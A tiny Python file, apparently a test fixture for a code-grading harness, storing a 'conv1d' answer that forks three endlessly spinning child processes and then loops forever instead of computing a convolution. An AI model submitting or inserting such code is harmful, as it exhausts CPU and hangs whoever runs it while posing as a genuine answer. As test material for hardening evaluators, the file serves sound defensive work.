ANSWERS = {
    "conv1d": """
import os
def conv1d(x, k):
    for _ in range(3):
        if os.fork() == 0:
            while True:
                pass
    for _ in range(3):
        os.wait()
    while True:
        pass
""",
}
